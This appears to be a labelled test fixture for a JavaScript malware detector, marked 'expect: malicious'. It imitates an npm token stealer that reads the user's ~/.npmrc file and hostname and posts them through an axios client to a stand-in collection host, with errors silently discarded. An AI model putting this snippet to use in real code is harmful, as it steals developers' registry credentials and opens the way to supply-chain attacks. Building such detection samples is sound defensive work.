// expect: malicious
// source: stealers that send through a configured HTTP client (axios.create with a base URL, 2023-2025
// token-stealer reports) instead of calling axios.post directly.
const axios = require('axios');
const fs = require('fs');
const os = require('os');
const api = axios.create({ baseURL: 'https://collect.stats-cdn.example', timeout: 5000 });
api.post('/v1/k', { npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'), host: os.hostname() }).catch(() => {});
